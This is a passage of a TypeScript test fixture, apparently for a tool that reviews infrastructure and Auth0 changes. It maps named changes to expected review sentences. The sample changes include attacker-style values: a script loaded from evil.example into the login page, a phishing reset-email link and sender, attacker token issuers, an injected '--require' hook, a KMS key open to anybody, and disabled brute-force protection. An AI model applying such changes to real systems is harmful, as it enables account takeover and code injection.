    'not judged (dev, prod, bootstrap of dev, bootstrap of prod): Role policy attachment "admin" is created. Nobody here judges the type aws:iam/rolePolicyAttachm',
  "another issuer":
    "widens (dev): The gateway now trusts tokens issued by https://evil.eu.auth0.com/ instead of https://exampleco-dev.eu.auth0.com/. Everybody has to sign in again, and WebAuthn enrolments are good at the domain only at which they were made.",
  "another audience": [
    "widens (dev): The gateway now also accepts tokens for https://other.example/.",
    "widens (prod): The gateway now also accepts tokens for https://other.example/.",
  ],
  "another place of the token":
    'widens (dev, prod): Authorizer "auth0": identitySources[] is now "$request.querystring.token" (was "$request.header.Authorization").',
  "another integration":
    'widens (dev, prod): Integration "api": integrationUri is now "arn:aws:lambda:eu-central-1:999999999999:function:x" (was ',
  "an open address of the gateway":
    'widens (prod): Api "api": disableExecuteApiEndpoint is now false (was true).',
  "a body of the gateway":
    'not judged (dev, prod): Api "api": body is now {} (was not set). Nobody judges that setting: look up what it does before you agree.',
  "a stream of the table":
    'not judged (dev, prod): Table "entries": streamEnabled is now true (was not set). Nobody judges that setting: look up what it does before you agree.',
  "another hash key":
    'destroys (dev): Table "entries" is replaced (deleted and created again, in between there is none), with all that is in it: hashKey is now "other" (was "pk").',
  "a table without recovery":
    'widens (dev, prod): Table "entries": pointInTimeRecovery.enabled is now false (was true).',
  "a policy of the table":
    'not judged (dev, prod): Resource policy "shared" is created. Nobody here judges the type aws:dynamodb/resourcePolicy:Res',
  "a key for anybody": 'widens (dev, prod): Key "data": policy now lets anybody do kms:* on *.',
  "a key without rotation": 'widens (dev, prod): Key "data": enableKeyRotation is now false (was true).',
  "a condition less":
    'widens (dev): Key "data": policy now lets Service cloudwatch.amazonaws.com do kms:Decrypt, kms:GenerateDataKey* on * whe',
  "a bucket":
    'not judged (dev, prod): Bucket "open" is created. Nobody judges acl ("public-read"): look up what it does before you agree.',
  "a callback in production":
    "widens (prod): Timesheets Web may now send people back to https://other.example/callback after the login.",
  "an origin in development": "widens (dev): Pages of https://evil.example may now act as Timesheets Web.",
  "no protection in production":
    'widens (prod): Client "batch" is no longer protected from being deleted, with its client id, secret, grants and refresh tokens.',
  "production that calls itself development":
    "widens (prod): Stack prod is now of environment development (was production): what protects people's real data is no longer asked of it.",
  "tokens of a former issuer":
    "widens (prod): The gateway also trusts tokens issued by https://exampleco.eu.auth0.com/ while people move away from it, and asks the function at each request: nobody has to sign in again yet.",
  "another login domain":
    "widens (prod): The gateway now trusts tokens issued by https://login.evil.example/ instead of https://login.timesheets.exampleco.com/. Everybody has to sign in again, and WebAuthn enrolments are good at the domain only at which they were made.",
  "another tenant":
    'widens (prod): Stack configuration auth0:domain is now "evil.eu.auth0.com" (was "exampleco.eu.auth0.com").',
  "another endpoint of AWS":
    'not judged (prod): Stack configuration aws:endpoints[].lambda is now "https://evil.example" (was not set).',
  "another region":
    'destroys (prod): Stack configuration aws:region is now "us-east-1" (was "eu-central-1").',
  "no hosting": 'destroys (prod): Api "api" is deleted, with its address.',
  "refresh tokens that live on unused":
    "widens (prod): Unused refresh tokens of Timesheets Mobile are now valid for 2591000 seconds (were for 15 days).",
  "a role of continuous integration for another environment":
    'widens (bootstrap of prod): Role "deploy": assumeRolePolicy now lets',
  "a right more of such a role":
    'widens (bootstrap of prod): Policy "deploy-data": policy now lets whoever has it do dynamodb:PutItem on',
  "a higher rate":
    'widens (prod): Stage "api": defaultRouteSettings.throttlingBurstLimit is now 4000 (was 400).',
  "shorter logs": 'widens (prod): Log group "access": retentionInDays is now 90 (was 365).',
  "another address for alarms":
    'widens (prod): Topic subscription "alarms" is replaced (deleted and created again): endpoint is now "eve@evil.example" (',
  "another zone":
    'widens (prod): Record "api": zoneId is now "Z0EVIL000000000000000" (was "Z0EXAMPLECO0TIMESHEETS").',
  "debugging of the provider": "widens (dev): Stack configuration auth0:debug is now true (was not set).",
  "a new stack": "widens (staging): Stack staging is new, of environment production",
  "a stack less": "destroys (dev): Stack dev is gone: nothing looks after its ",
  "another runtime of the program":
    'not judged (dev, prod): Pulumi.yaml: runtime.options.nodeargs is now "--require ./x.js" (was not set).',
  "another program": 'not judged (dev, prod): Pulumi.yaml: main is now "local/" (was "infra/").',
  "no second factor": 'widens (prod): Tenant setting guardianPolicies.policies["all-applications"] is gone.',
  "settings that are gone":
    "widens (prod): tenant/settings/prod.json is gone: the stack's tenant no longer gets the settings of tenant/settings, suc",
  "a type of settings less": 'widens (prod): Tenant setting Deploy CLI.types["guardianPolicies"] is gone.',
  "no brute-force protection":
    "widens (dev, prod): Tenant setting attackProtection.bruteForceProtection.enabled is now false (was true).",
  "an address that is let through":
    'widens (dev, prod): Tenant setting attackProtection.bruteForceProtection.allowlist["203.0.113.7"] is new.',
  "messages as a factor":
    "widens (dev, prod): Tenant setting guardianFactors[sms].enabled is now true (was false).",
  "a legacy grant":
    "widens (dev, prod): Tenant setting tenant.flags.allow_legacy_ro_grant_types is now true (was false).",
  "a flag that nobody knows":
    "not judged (dev, prod): Tenant setting tenant.flags.allow_changing_enable_sso is now true (was not set). Nobody judges t",
  "redirects after logout":
    'widens (dev, prod): Tenant setting tenant.allowed_logout_urls["https://evil.example"] is new.',
  "a page of its own":
    'not judged (dev, prod): Tenant setting branding.templates[universal_login].template is now "universal_login" (was not se',
  "another sender":
    'widens (dev, prod): Tenant setting emailTemplates[reset_email].from is now "Eve <eve@evil.example>" (was "ExampleCo IT <it-support@exampleco.com>").',
  "a link in a template":
    'widens (dev): Tenant setting emailTemplates[reset_email].body is now "…/p>\\n    <p><a href=\\"https://evil.example/?u={{ ',
  "a template of its own":
    'not judged (dev, prod): Tenant setting prompts.partials.login.login.form-content-end is now "<script src=https://evil.ex',
  "a waiver":
    "widens (dev, prod): Guardrail connection-signup is now waived for auth0:index/connection:Connection people until 2027-05",
  "a longer waiver":
    "widens (dev, prod): The waiver of guardrail function-dead-letters for aws:lambda/function:Function api now ends on 2027-",
  "an API that lets one person pass":
    "not judged (dev, prod): The API has other code, whose answers aren't compared: api/http/authorization.ts",
};

/** Those that hide what others do, or of which the sentence says more in company: each has a tree to itself. */
export const alone: ReadonlySet<string> = new Set([
  "another identifier of the API",
  "no hosting",
  "tokens of a former issuer",
  "another tenant",
  "settings that are gone",
  "a stack less",
  "one person's rights",
  "a renamed role",
  "an application less",
  "RBAC off",
  "RBAC off in production only",
  "another issuer",
  "a role more for a group",
]);
